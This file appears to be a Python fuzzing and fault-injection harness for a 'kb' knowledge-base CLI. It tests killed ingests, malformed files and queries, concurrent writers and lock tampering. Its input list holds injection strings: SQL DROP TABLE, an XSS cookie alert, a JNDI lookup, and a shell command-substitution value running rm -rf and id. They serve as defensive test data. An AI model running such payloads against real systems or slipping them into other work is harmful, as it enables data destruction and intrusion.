                again = kb(cmd, cwd)
                check(again.rc == 0, "rm run again fails", again)
            got, _ = docs(arg, cwd)
            check(got == {A}, f"after rm the index lists {sorted(got)}")
            tidy(idx)
            return f"rm {said}; index whole, rerun done"
        case("kills", f"SIGKILL kb rm {_when(when)}")(fn)

    for when in (("gen", 0.05),):
        def fn(s: Site, when=when) -> str:
            idx, arg, cwd = s.copy_index()
            cmd = ["--index", arg, "ingest", "--replace", str(s.site / "corpus"), str(s.site / "fifth")]
            said = _kill_at(popen(cmd, cwd), idx, when)
            got, _ = docs(arg, cwd)
            check(got in (BASE, {A} | E), f"after a killed ingest --replace the index lists {sorted(got)}")
            again = kb(cmd, cwd)
            check(again.rc == 0, "ingest --replace run again fails", again)
            got, _ = docs(arg, cwd)
            check(got == {A} | E, f"after the rerun the index lists {sorted(got)}")
            tidy(idx)
            return f"ingest --replace {said}; whole, rerun done"
        case("kills", f"SIGKILL ingest --replace {_when(when)}")(fn)

    for when in (("wall", round(0.6 * t, 2)), ("gen", 0.02), ("swap", 0.0)):
        def fn(s: Site, when=when) -> str:
            case_dir = s.new_case_dir()
            arg = "新 索引/first"
            cmd = ["--index", arg, "ingest", str(s.site / "corpus"), str(s.site / "other")]
            killed = _kill_at(popen(cmd, case_dir), case_dir / arg, when)
            r = kb(["--index", arg, "ask", QUESTION], case_dir)
            said = ok_or_one_line(r)
            if r.rc and advice_of(r).endswith(" repair"):    # it calls the unfinished build damage: repair it
                fix = run_advice(advice_of(r), s.elsewhere)
                check(fix.rc == 0, f"first ingest {killed}: `kb ask` advises a repair, which fails", fix)
            again = kb(cmd, case_dir)
            no_traceback(again)
            check(again.rc == 0, "the first ingest run again fails", again)
            got, _ = docs(arg, case_dir)
            check(got == BASE, f"after the rerun the index lists {sorted(got)}")
            tidy(case_dir / arg)
            return f"first ingest {killed} (open: {said[:60]}); rerun built it, tidy"
        case("kills", f"SIGKILL the first ingest into a new index {_when(when)}")(fn)

    def fn_twice(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        cmd = ["--index", arg, "ingest", str(s.site / "third")]
        for when in (("gen", 0.01), ("gen", 0.1)):
            said = _kill_at(popen(cmd, cwd), idx, when)
            got, _ = docs(arg, cwd)
            check(got in (BASE, BASE | C), f"{said}: the index lists {sorted(got)}")
        again = kb(cmd, cwd)
        check(again.rc == 0, "rerun after two kills fails", again)
        got, _ = docs(arg, cwd)
        check(got == BASE | C, f"after two kills and a rerun the index lists {sorted(got)}")
        tidy(idx)
        return "two kills in a row, then a rerun: complete and tidy"
    case("kills", "SIGKILL twice in a row, then rerun")(fn_twice)

    for when in (("gen", 0.03),):
        def fn(s: Site, when=when) -> str:
            idx, arg, cwd = s.copy_index()
            cmd = ["--index", arg, "ingest", str(s.site / "third")]
            p = popen(cmd, cwd)
            said = _kill_at(p, idx, when, signal.SIGINT)
            got, _ = docs(arg, cwd)
            check(got in (BASE, BASE | C), f"after Ctrl-C the index lists {sorted(got)}")
            again = kb(cmd, cwd)
            check(again.rc == 0, "rerun after Ctrl-C fails", again)
            got, _ = docs(arg, cwd)
            check(got == BASE | C, f"after Ctrl-C and rerun the index lists {sorted(got)}")
            tidy(idx)
            return f"Ctrl-C (SIGINT) {said}, rc {p.returncode}; rerun complete"
        case("kills", f"SIGINT ingest {_when(when)}")(fn)


# ================================================================ 3. bad input
def _same_state(s: Site, idx: Path, arg: str, cwd: Path, before_current: bytes, r: Run) -> None:
    cur = (idx / "CURRENT").read_bytes() if (idx / "CURRENT").is_file() else b""
    check(cur == before_current, "the refused command changed CURRENT", r)
    ls = kb(["--index", arg, "ls"], cwd)
    check(ls.rc == 0 and ls.out == s.ls_pristine, "the refused command changed `kb ls`", r)


SHARED_LOCK = threading.Lock()
SHARED: dict[str, tuple[Path, str, Path]] = {}


def shared_index(s: Site) -> tuple[Path, str, Path]:
    """One copy for the read-only cases (queries, options): they must never change it."""
    with SHARED_LOCK:
        if "idx" not in SHARED:
            SHARED["idx"] = s.copy_index(relative=False)
        return SHARED["idx"]


def query_case(name: str, args: list, *, json_out: bool = False, input: bytes | None = None):
    def fn(s: Site) -> str:
        idx, arg, cwd = shared_index(s)
        before = (idx / "CURRENT").read_bytes()
        r = kb(["--index", arg, *args], cwd, timeout=120, input=input)
        said = ok_or_one_line(r)
        check(not RAW_CONTROL.search(r.out.replace("\t", "")), "raw control character on stdout", r)
        check(not RAW_CONTROL.search(r.err.replace("\t", "")), "raw control character on stderr", r)
        if r.rc == 0 and json_out:
            try:
                json.loads(r.out)
            except ValueError:
                raise Failed("--json output is not JSON: " + r.show()) from None
        check((idx / "CURRENT").read_bytes() == before, "a read changed CURRENT", r)
        return f"{said} ({r.secs:.1f} s)"
    case("input", name)(fn)


def register_input(seed: int) -> None:
    rng = random.Random(f"{seed}:input")
    cjk = "".join(chr(rng.randint(0x4E00, 0x9FA5)) for _ in range(10_000))
    queries = {
        "empty query": [""],
        "tabs and newlines": ["\t\n\r\n"],
        "ideographic space only": ["\u3000\u3000"],
        "zero-width characters only": ["\u200b\u200c\u200d\ufeff"],
        "10,000 times 铜": ["铜" * 10_000],
        "10,000 random ideographs": [cjk],
        "2,000 words of 城市": ["城市 " * 2_000],
        "control characters": ["\x01\x02城市道路\x03\x7f"],
        "ANSI colour codes": ["\x1b[31m城市道路\x1b[0m挖掘"],
        "ANSI clear screen and OSC title": ["\x1b[2J\x1b]0;pwned\x07占道费"],
        "C1 CSI": ["\x9b31m道路\x9b0m"],
        "lone high surrogate bytes": [b"\xed\xa0\x80\xe5\x9f\x8e\xe5\xb8\x82"],
        "invalid UTF-8 bytes": [b"\xff\xfe\xfd\xe9\x81\x93\xe8\xb7\xaf"],
        "overlong UTF-8": [b"\xc0\xaf\xe0\x80\xaf"],
        "emoji": ["🚀🏙️城市道路🚧"],
        "right-to-left override": ["\u202e路道市城\u202c"],
        "combining marks pile": ["a" + "\u0301" * 500],
        "SQL injection": ["'; DROP TABLE passages; --"],
        "HTML script": ["<script>alert(document.cookie)</script>"],
        "format string": ["%s%s%n%x{0.__class__}"],
        "template injection": ["{{7*7}}${jndi:ldap://x/a}"],
        "shell injection": ["$(rm -rf /tmp/x); `id`"],
        "regex metacharacters": ["(.*)+[?*\\"],
        "only punctuation": ["？！。，、；：“”"],
        "a negative number": ["-1"],
        "Korean, Japanese, Arabic": ["도로 道路の料金 طريق"],
    }
    for name, q in queries.items():
        query_case(f"ask: {name}", ["ask", *q])
    query_case("ask --json: ANSI colour codes", ["ask", "--json", "\x1b[31m城市道路\x1b[0m"], json_out=True)
    query_case("ask --json: 10,000 random ideographs", ["ask", "--json", cjk], json_out=True)
    query_case("ask interactive: NUL, ESC and empty line", ["ask"], input="城市\x00道路\n\x1b[31m挖掘\n\n".encode())
    query_case("ask interactive: invalid UTF-8 on stdin", ["ask"], input=b"\xff\xfe\xe9\x81\x93\n")
    query_case("ask interactive: a 100,000-character line", ["ask"], input=("铜" * 100_000 + "\n").encode())

    options = {
        "-k 0": ["ask", "-k", "0", Q_B],
        "-k -1": ["ask", "-k", "-1", Q_B],
        "-k 1000000": ["ask", "-k", "1000000", Q_B],
        "-k 2**70": ["ask", "-k", str(2 ** 70), Q_B],
        "--section nonsense": ["ask", "--section", "胡说八道", Q_B],
        "--section 第九十九章第一节": ["ask", "--section", "第九十九章第一节", Q_B],
        "--section 九、（一） without --doc": ["ask", "--section", "九、（一）", Q_B],
        "--doc unknown": ["ask", "--doc", "no-such-document", Q_B],
        "--doc with ANSI": ["ask", "--doc", "\x1b[31mred", Q_B],
        "--chapter 999": ["ask", "--chapter", "999", Q_B],
        "--chapter 2**70": ["ask", "--chapter", str(2 ** 70), Q_B],
        "--chapter 999 --doc other's": ["ask", "--chapter", "999", "--doc", B, Q_B],
        "--box nonsense": ["ask", "--box", "专栏九九", Q_B],
        "toc --doc unknown": ["toc", "--doc", "no-such-document"],
        "inspect unknown document": ["inspect", "no-such-document"],
        "eval a missing file": ["eval", "/no/such/questions.jsonl"],
        "-k abc (not a number)": ["ask", "-k", "abc", Q_B],
        "an unknown option": ["ask", "--frobnicate", Q_B],
        "an unknown command": ["frobnicate"],
    }
    for name, args in options.items():
        query_case(f"option: {name}", args)

    def global_case(name: str, args: list, expect_refusal: bool = True):
        def fn(s: Site) -> str:
            cwd = s.new_case_dir()
            r = kb(args, cwd)
            if expect_refusal:
                one_line(r)
                return "refused: " + r.err.strip()[:90]
            return ok_or_one_line(r)
        case("input", name)(fn)
    global_case("option: --index an empty string", ["--index", "", "ask", Q_B], expect_refusal=False)
    global_case("option: --index /dev/null", ["--index", "/dev/null", "ask", Q_B])
    global_case("option: --index a missing folder", ["--index", "/no/such/索引", "ask", Q_B])

    def eval_garbage(s: Site) -> str:
        idx, arg, cwd = shared_index(s)
        f = s.new_case_dir() / "questions.jsonl"
        f.write_bytes(bytes(rng.randrange(256) for _ in range(2000)))
        r = kb(["--index", arg, "eval", str(f)], cwd)
        return ok_or_one_line(r)
    case("input", "option: eval a file of random bytes")(eval_garbage)

    def model_case(s: Site) -> str:
        idx, arg, cwd = shared_index(s)
        r = kb(["--index", arg, "--model", "/no/such/model", "ask", Q_B], cwd)
        return ok_or_one_line(r)
    case("input", "option: --model a missing path")(model_case)

    def rm_unknown(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        before = (idx / "CURRENT").read_bytes()
        r = kb(["--index", arg, "rm", "no-such-document"], cwd)
        one_line(r)
        _same_state(s, idx, arg, cwd, before, r)
        return "refused, index unchanged: " + r.err.strip()[:80]
    case("input", "option: rm an unknown document")(rm_unknown)

    # ---- odd files: each ingested alone into its own copy
    def file_case(name: str, make: Callable[[Path, random.Random], Path | bytes | str], *, may_succeed: bool = True,
                  must_succeed: bool = False, timeout: float = 180, adds: bool = True):
        def fn(s: Site) -> str:
            idx, arg, cwd = s.copy_index()
            files = s.new_case_dir()
            target = make(files, random.Random(f"{seed}:{name}"))
            before = (idx / "CURRENT").read_bytes()
            r = kb(["--index", arg, "ingest", target], cwd, timeout=timeout)
            no_traceback(r)
            check(r.rc != 124, "hung", r)
            if r.rc == 0:
                check(may_succeed, "accepted (exit 0), expected a refusal", r)
                answered(r)
                if not adds:
                    check((idx / "CURRENT").read_bytes() == before, "accepted, nothing to add, yet CURRENT changed", r)
                check(not RAW_CONTROL.search(r.out.replace("\t", "") + r.err.replace("\t", "")), "raw control character", r)
                got, _ = docs(arg, cwd)
                check(BASE <= got, f"after the ingest the index lists {sorted(got)}")
                finds(arg, cwd, Q_B, B)
                return f"accepted in {r.secs:.1f} s ({len(got)} docs): " + (r.err.strip().splitlines() or [""])[0][:80]
            check(not must_succeed, "refused, expected it to be read", r)
            one_line(r)
            check(not RAW_CONTROL.search(r.err.replace("\t", "")), "raw control character on stderr", r)
            _same_state(s, idx, arg, cwd, before, r)
            return f"refused in {r.secs:.1f} s, index unchanged: " + r.err.strip()[:100]
        case("input", f"file: {name}")(fn)

    def write(name: str, data: bytes):
        def make(d: Path, rng: random.Random) -> str:
            (d / name).write_bytes(data if not callable(data) else data(rng))
            return str(d / name)
        return make

    text = (GALLERY / "gov-work-report-2023.txt").read_text(encoding="utf-8")
    flat = "".join(f.read_text(encoding="utf-8") for f in sorted(GALLERY.glob("*.txt")) if f.stem != B).replace("\n", "")
    file_case("empty .txt", write("空.txt", b""), may_succeed=False)
    file_case("whitespace-only .txt", write("blank.txt", b" \n\t\n\xe3\x80\x80\n" * 50), may_succeed=False)
    file_case("binary (PNG bytes) named .txt", write("图片.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40), may_succeed=False)
    file_case("random bytes .txt", write("random.txt", lambda rng: bytes(rng.randrange(256) for _ in range(20_000))), may_succeed=False)
    file_case("NUL bytes .txt", write("nul.txt", b"\x00" * 5000), may_succeed=False)
    file_case("UTF-8 text with NULs between characters", write("nuls.txt", "\x00".join(text[:2000]).encode()))
    file_case("a .pdf that is Chinese text", write("假的.pdf", text.encode()), may_succeed=False)
    file_case("a .pdf with a header and garbage", write("broken.pdf", lambda rng: b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(5000))), may_succeed=False)
    file_case("a .pdf truncated after its header", write("trunc.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<"), may_succeed=False)
    file_case("a .docx of random bytes", write("假的.docx", lambda rng: bytes(rng.randrange(256) for _ in range(3000))), may_succeed=False)
    file_case("a .docx that is an empty zip", write("empty.docx", b"PK\x05\x06" + b"\x00" * 18), may_succeed=False)
    file_case("an .html of binary", write("page.html", lambda rng: bytes(rng.randrange(256) for _ in range(3000))), may_succeed=False)
    file_case("an .html of scripts only", write("scripts.html", b"<html><script>alert(1)</script><style>p{}</style></html>"), may_succeed=False)
    file_case("an unsupported extension (.exe)", write("tool.exe", b"MZ\x90\x00" * 100), may_succeed=False)
    file_case("a 1 MB single line of plan text", write("一行.txt", (flat * (1_050_000 // len(flat.encode()) + 1)).encode()[:1_050_000].decode("utf-8", "ignore").encode()),
              must_succeed=True, timeout=300)
    file_case("a 1 MB single line of one ideograph", write("铜.txt", ("铜" * 350_000).encode()), timeout=300)
    file_case("200,000 empty lines", write("lines.txt", b"\n" * 200_000), may_succeed=False)
    file_case("UTF-16 with BOM", write("utf16.txt", text.encode("utf-16")))
    file_case("UTF-8 with BOM", write("bom.txt", b"\xef\xbb\xbf" + text.encode()), must_succeed=True)
    file_case("GBK-encoded plan", write("gbk.txt", text.encode("gbk")), must_succeed=True)
    file_case("Big5 text", write("big5.txt", "中華民國政府工作報告，經濟發展穩定。".encode("big5") * 200))
    file_case("a file name with ANSI codes and a newline", write("报告\x1b[31m\n红.txt", text.encode()), must_succeed=True)
    file_case("a file name of invalid UTF-8 bytes", lambda d, rng: (Path(os.fsdecode(os.fsencode(str(d)) + b"/bad\xff\xfe.txt")).write_bytes(text.encode()), os.fsencode(str(d)) + b"/bad\xff\xfe.txt")[1])
    file_case("a doc id already taken by the other folder", write(f"{B}.txt", text.encode()), may_succeed=False)

    def folder_named_txt(d: Path, rng) -> str:
        (d / "x.txt").mkdir()
        return str(d / "x.txt")
    file_case("a folder named x.txt (empty)", folder_named_txt, adds=False)

    def folder_named_txt_with_file(d: Path, rng) -> str:
        (d / "y.txt").mkdir()
        (d / "y.txt" / "z.bin").write_bytes(b"\x00\x01")
        return str(d / "y.txt")
    file_case("a folder named y.txt holding a binary", folder_named_txt_with_file, adds=False)
    file_case("a missing path", lambda d, rng: str(d / "不存在.txt"), may_succeed=False)

    def loop(d: Path, rng) -> str:
        (d / "loop.txt").symlink_to(d / "loop2.txt")
        (d / "loop2.txt").symlink_to(d / "loop.txt")
        return str(d / "loop.txt")
    file_case("a symlink loop", loop, may_succeed=False)

    def dangling(d: Path, rng) -> str:
        (d / "dangling.txt").symlink_to(d / "gone" / "nothing.txt")
        return str(d / "dangling.txt")
    file_case("a dangling symlink", dangling, may_succeed=False)

    def devnull(d: Path, rng) -> str:
        (d / "null.txt").symlink_to("/dev/null")
        return str(d / "null.txt")
    file_case("a symlink to /dev/null", devnull, may_succeed=False)

    def fifo(d: Path, rng) -> str:
        os.mkfifo(d / "fifo.txt")
        return str(d / "fifo.txt")
    file_case("a FIFO named .txt", fifo, may_succeed=False, timeout=20)

    def mixed_case(name: str, extra: Callable[[Path], None], more: set[str] = frozenset(), timeout: float = 180):
        """A folder holding a good document and something odd: the good one is indexed; the odd one, if refused,
        is said in one `kb: ` line (exit 1); no traceback, no hang."""
        def fn(s: Site) -> str:
            idx, arg, cwd = s.copy_index()
            d = s.new_case_dir() / "docs"
            d.mkdir()
            shutil.copy(GALLERY / "central-no1-2018.txt", d)
            extra(d)
            r = kb(["--index", arg, "ingest", str(d)], cwd, timeout=timeout)
            no_traceback(r)
            check(r.rc in (0, 1), "exit code", r)
            check(all(l.startswith("kb: ") for l in r.err.splitlines()), "a stderr line not starting 'kb: '", r)
            check(not RAW_CONTROL.search(r.out.replace("\t", "") + r.err.replace("\t", "")), "raw control character", r)
            got, _ = docs(arg, cwd)
            check(BASE | {"central-no1-2018"} <= got and len(got - BASE - {"central-no1-2018"}) <= len(more),
                  f"the index lists {sorted(got)}")
            finds(arg, cwd, Q_B, B)
            said = [l for l in r.err.splitlines() if "skipped" in l]
            return f"rc {r.rc}, {len(got)} docs" + (f"; {said[0][:90]}" if said else "")
        case("input", f"file: {name}")(fn)
    mixed_case("a folder with a good file and a FIFO .txt", lambda d: os.mkfifo(d / "fifo.txt"), timeout=20)
    mixed_case("a folder with a good file and a symlink loop .txt",
               lambda d: ((d / "a.txt").symlink_to(d / "b.txt"), (d / "b.txt").symlink_to(d / "a.txt")))
    mixed_case("a folder with a file whose name is invalid UTF-8",
               lambda d: Path(os.fsdecode(os.fsencode(str(d)) + b"/\xb9\xe6\xbb\xae.txt")).write_bytes(text.encode("utf-8")),
               more={"?"})
    mixed_case("a folder with a good file and random high bytes .txt",
               lambda d: (d / "noise.txt").write_bytes(bytes(random.Random(seed).randrange(128, 256) for _ in range(20_000))))

    def loop_dir(d: Path, rng) -> str:
        (d / "docs").mkdir()
        (d / "docs" / "self").symlink_to(d / "docs")
        shutil.copy(GALLERY / "central-no1-2018.txt", d / "docs" / "central-no1-2018.txt")
        return str(d / "docs")
    file_case("a folder holding a symlink to itself", loop_dir)

    def unreadable(d: Path, rng) -> str:
        # permissions do not stop root: simulate with a file the kernel refuses to read (a directory symlinked as .txt)
        (d / "proc.txt").symlink_to("/proc/self/mem")
        return str(d / "proc.txt")
    file_case("a .txt that cannot be read (/proc/self/mem)", unreadable, may_succeed=False)



# ================================================================ 4. concurrency
def _writers(cmds: list[list], cwd: Path, stagger: float = 0.0) -> list[Run]:
    procs = []
    t = time.perf_counter()
    for c in cmds:
        procs.append((c, popen(c, cwd)))
        if stagger:
            time.sleep(stagger)
    runs = []
    for c, p in procs:
        try:
            out, err = p.communicate(timeout=300)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, signal.SIGKILL)
            out, err = p.communicate()
        runs.append(Run(c, cwd, p.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"),
                        time.perf_counter() - t))
    return runs


class Readers:
    """CLI readers asking in a loop (and one API reader opening and searching) until stopped."""

    def __init__(self, arg: str, cwd: Path, n: int = 2):
        self.arg, self.cwd, self.stop, self.errors, self.count = arg, cwd, threading.Event(), [], 0
        self.threads = [threading.Thread(target=self._cli, daemon=True) for _ in range(n)]
        script = ("import sys, time\nfrom kb import KnowledgeBase\nn = err = 0\nt = time.time()\n"
                  "while time.time() - t < float(sys.argv[2]):\n"
                  "    try:\n        kb = KnowledgeBase.open(sys.argv[1])\n"
                  f"        assert any(h.passage.doc_id == {B!r} for h in kb.search({Q_B!r}, k=5))\n        n += 1\n"
                  "    except Exception as e:\n        err += 1\n        print(type(e).__name__, e, file=sys.stderr)\n"
                  "print(n, err)\n")
        self.api = None
        self.script = script

    def start(self, api_seconds: float) -> "Readers":
        for t in self.threads:
            t.start()
        self.api = subprocess.Popen([sys.executable, "-c", self.script, self.arg, str(api_seconds)], cwd=self.cwd,
                                    env=ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        return self

    def _cli(self) -> None:
        while not self.stop.is_set():
            r = kb(["--index", self.arg, "ask", "--json", Q_B], self.cwd)
            self.count += 1
            try:
                ok = r.rc == 0 and any(h["doc_id"] == B for h in json.loads(r.out)["hits"])
            except (ValueError, KeyError):
                ok = False
            if not ok:
                self.errors.append(r.show(200))

    def finish(self) -> str:
        self.stop.set()
        for t in self.threads:
            t.join(timeout=120)
        out, err = self.api.communicate(timeout=300)
        n, bad = (out.decode().split() + ["0", "?"])[:2]
        if bad != "0":
            self.errors.append(f"API reader: {bad} errors: {err.decode('utf-8', 'replace')[:300]}")
        return f"{self.count} CLI asks and {n} API opens+searches during the writes"


def register_concurrency(seed: int) -> None:
    def conc(name: str):
        return case("concurrency", name, serial=True)

    def _all_ok(runs: list[Run]) -> None:
        for r in runs:
            no_traceback(r)
            check(r.rc == 0, "a concurrent writer failed", r)

    @conc("two writers at once (third/, fourth/)")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        runs = _writers([["--index", arg, "ingest", str(s.site / "third")], ["--index", arg, "ingest", str(s.site / "fourth")]], cwd)
        _all_ok(runs)
        got, _ = docs(arg, cwd)
        check(got == BASE | C | D, f"the index lists {sorted(got)}")
        tidy(idx)
        return f"both landed ({len(got)} docs)"

    @conc("three writers at once (third/, fourth/, fifth/)")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        runs = _writers([["--index", arg, "ingest", str(s.site / f)] for f in ("third", "fourth", "fifth")], cwd)
        _all_ok(runs)
        got, _ = docs(arg, cwd)
        check(got == BASE | C | D | E, f"the index lists {sorted(got)}")
        tidy(idx)
        return f"all three landed ({len(got)} docs)"

    @conc("three writers staggered by 0.4 s, relative folders")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index(relative=False)
        runs = _writers([["--index", arg, "ingest", f] for f in ("third", "fourth/", "./fifth")], s.site, stagger=0.4)
        _all_ok(runs)
        got, _ = docs(arg, cwd)
        check(got == BASE | C | D | E, f"the index lists {sorted(got)}")
        return f"all three landed ({len(got)} docs)"

    @conc("two writers of the same folder")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        runs = _writers([["--index", arg, "ingest", str(s.site / "third")]] * 2, cwd)
        _all_ok(runs)
        got, _ = docs(arg, cwd)
        check(got == BASE | C, f"the index lists {sorted(got)}")
        return "both succeeded, each document once"

    @conc("two writers into a new index at once")
    def _(s: Site) -> str:
        cwd = s.new_case_dir()
        arg = "全新 索引"
        runs = _writers([["--index", arg, "ingest", str(s.site / "corpus")], ["--index", arg, "ingest", str(s.site / "other")]], cwd)
        _all_ok(runs)
        got, _ = docs(arg, cwd)
        check(got == BASE, f"the index lists {sorted(got)}")
        return "both landed in a new index"

    @conc("a writer and an rm at once")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        runs = _writers([["--index", arg, "ingest", str(s.site / "third")], ["--index", arg, "rm", B]], cwd)
        _all_ok(runs)
        got, _ = docs(arg, cwd)
        check(got == {A} | C, f"the index lists {sorted(got)}")
        return "both changes landed"

    @conc("ingest --replace and an add at once")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        runs = _writers([["--index", arg, "ingest", "--replace", str(s.site / "corpus")],
                         ["--index", arg, "ingest", str(s.site / "fifth")]], cwd)
        _all_ok(runs)
        got, _ = docs(arg, cwd)
        check(got in ({A}, {A} | E), f"the index lists {sorted(got)}, not a serial order's result")
        return f"a serial order's result: {sorted(got)}"

    @conc("two advised repairs at once")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        gen, _ = _current_gen(idx)
        (gen / "manifest.json").write_bytes(b"{}")
        r = kb(["--index", arg, "ask", QUESTION], cwd)
        one_line(r, codes=(1,))
        advice = shlex.split(advice_of(r))[1:]
        runs = _writers([advice, advice], s.elsewhere)
        _all_ok(runs)
        got, _ = docs(arg, cwd)
        check(got == BASE, f"the index lists {sorted(got)}")
        finds(arg, cwd, Q_B, B)
        return "both repairs succeeded; both documents there"

    @conc("a repair and an ingest at once")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index()
        gen, _ = _current_gen(idx)
        shutil.rmtree(gen)
        r = kb(["--index", arg, "ask", QUESTION], cwd)
        one_line(r, codes=(1,))
        advice = shlex.split(advice_of(r))[1:]
        runs = _writers([advice, ["--index", str(idx), "ingest", str(s.site / "fifth")]], s.elsewhere)
        for x in runs:
            no_traceback(x)
        bad = [x for x in runs if x.rc != 0]
        for x in bad:                                     # a writer that found the index damaged: its advice
            one_line(x, codes=(1,))
        if bad:
            check(run_advice(advice_of(bad[0]), s.elsewhere).rc == 0, "the advice fails")
            for x in runs:
                if x.rc != 0 and x.cmd != advice:
                    check(kb(x.cmd, s.elsewhere).rc == 0, "the ingest run again fails")
        got, _ = docs(arg, cwd)
        check(got == BASE | E, f"the index lists {sorted(got)}")
        return f"both done ({len(bad)} refused with advice first)"

    for n_writers in (2, 3):
        @conc(f"readers asking during {n_writers} writers")
        def _(s: Site, n_writers=n_writers) -> str:
            idx, arg, cwd = s.copy_index(relative=False)
            readers = Readers(arg, cwd).start(api_seconds=12)
            time.sleep(1.0)
            runs = _writers([["--index", arg, "ingest", str(s.site / f)] for f in ("third", "fourth", "fifth")[:n_writers]], cwd)
            time.sleep(0.5)
            said = readers.finish()
            _all_ok(runs)
            check(not readers.errors, f"reader errors ({len(readers.errors)}): {readers.errors[:2]}")
            got, _ = docs(arg, cwd)
            want = BASE | C | D | (E if n_writers == 3 else set())
            check(got == want, f"the index lists {sorted(got)}")
            return said + ", no error"

    @conc("readers during repeated add/remove swaps")
    def _(s: Site) -> str:
        idx, arg, cwd = s.copy_index(relative=False)
        readers = Readers(arg, cwd, n=1).start(api_seconds=15)
        for i in range(3):
            a = kb(["--index", arg, "ingest", str(s.site / "fifth")], cwd)
            b = kb(["--index", arg, "rm", *sorted(E)], cwd)
            check(a.rc == 0 and b.rc == 0, "a swap failed", a if a.rc else b)
        said = readers.finish()
        check(not readers.errors, f"reader errors ({len(readers.errors)}): {readers.errors[:2]}")
        return said + ", no error"


# ================================================================ 5. the lock deleted under a writer
def register_lock(seed: int, t: float) -> None:
    """t: the seconds an ingest of third/ takes; the lock is meddled with at moments spread over it."""
    def lock_case(name: str, delay: float, second: bool, how: str = "delete", repeat: bool = False):
        def fn(s: Site) -> str:
            idx, arg, cwd = s.copy_index()
            w1 = ["--index", arg, "ingest", str(s.site / "third")]
            w2 = ["--index", arg, "ingest", str(s.site / "fourth")]
            p1 = popen(w1, cwd)
            procs = [(w1, p1)]
            time.sleep(delay)
            stop = threading.Event()

            def meddle():
                lock = idx / ".lock"
                if how == "delete":
                    lock.unlink(missing_ok=True)
                elif how == "replace":
                    lock.unlink(missing_ok=True)
                    lock.write_bytes(b"")
                elif how == "folder":
                    lock.unlink(missing_ok=True)
                    lock.mkdir(exist_ok=True)
            meddle()
            if second:
                procs.append((w2, popen(w2, cwd)))
            if repeat:
                def keep_deleting():
                    while not stop.is_set():
                        meddle()
                        time.sleep(0.1)
                t = threading.Thread(target=keep_deleting, daemon=True)
                t.start()
            runs = []
            for c, p in procs:
                out, err = p.communicate(timeout=300)
                runs.append(Run(c, cwd, p.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"), 0))
            stop.set()
            if (idx / ".lock").is_dir():
                shutil.rmtree(idx / ".lock")           # (our own meddling, undone before the reruns)
            stopped = []
            for r in runs:
                no_traceback(r)
                if r.rc != 0:
                    one_line(r, codes=(1,))
                    check("again" in r.err, "a writer stopped without saying to run again", r)
                    stopped.append(r)
            for r in stopped:
                again = kb(r.cmd, cwd)
                check(again.rc == 0, "run again after the lock was lost, it fails", again)
            got, _ = docs(arg, cwd)
            want = BASE | C | (D if second else set())
            check(got == want, f"after the reruns the index lists {sorted(got)}, expected {sorted(want)}")
            finds(arg, cwd, Q_B, B)
            return (f"{len(runs) - len(stopped)} writer(s) finished, {len(stopped)} stopped saying run again;"
                    f" nothing lost ({len(got)} docs)")
        case("lock", name, serial=True)(fn)

    for f in (0.2, 0.45, 0.65, 0.85):
        lock_case(f".lock deleted at {f * t:.1f} s, a second writer starts", f * t, True)
    lock_case(f".lock deleted at {0.6 * t:.1f} s, no second writer", 0.6 * t, False)
    lock_case(f".lock replaced by a new file at {0.5 * t:.1f} s, a second writer starts", 0.5 * t, True, "replace")
    lock_case(f".lock replaced by a folder at {0.5 * t:.1f} s, a second writer starts", 0.5 * t, True, "folder")
    lock_case(".lock deleted every 0.1 s while two writers run", 0.3, True, "delete", repeat=True)


# ================================================================ main
def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--model", default=os.environ.get("KB_MODEL", "hash"), help="embedding model (default: hash)")
    ap.add_argument("--jobs", type=int, default=2 * (os.cpu_count() or 1), help="cases run at once (families 1-3)")
    ap.add_argument("--seed", default="22")
    ap.add_argument("--full", action="store_true", help="every generation file with every kind of damage")
    ap.add_argument("--only", action="append", default=[], help="run the cases whose 'family: name' holds this")
    ap.add_argument("--keep", action="store_true", help="keep the temporary folder")
    ap.add_argument("-v", "--verbose", action="store_true")
    a = ap.parse_args(argv)
    global ENV
    ENV = make_env(a.model)
    t0 = time.perf_counter()
    root = Path(tempfile.mkdtemp(prefix="kb-attack-"))
    print(f"kb attack campaign: model {a.model}, seed {a.seed}, {a.jobs} at once, in {root}", flush=True)
    try:
        s = build_site(root)
        files = sorted(json.loads((_current_gen(s.pristine)[0] / "manifest.json").read_text(encoding="utf-8"))["files"])
        register_damage(files, a.full, a.seed)
        register_pointer_damage(a.seed, a.full)
        register_kills(a.seed, s.t_ingest)
        register_input(a.seed)
        register_concurrency(a.seed)
        register_lock(a.seed, s.t_ingest)
        print(f"site built in {time.perf_counter() - t0:.0f} s; an ingest of third/ takes {s.t_ingest:.1f} s", flush=True)
        chosen = [c for c in CASES if not a.only or any(o in f"{c.family}: {c.name}" for o in a.only)]
        return run_cases(chosen, s, ("damage", "kills", "input", "concurrency", "lock"), a.jobs, a.verbose, t0)
    finally:
        if a.keep:
            print(f"kept {root}")
        else:
            shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
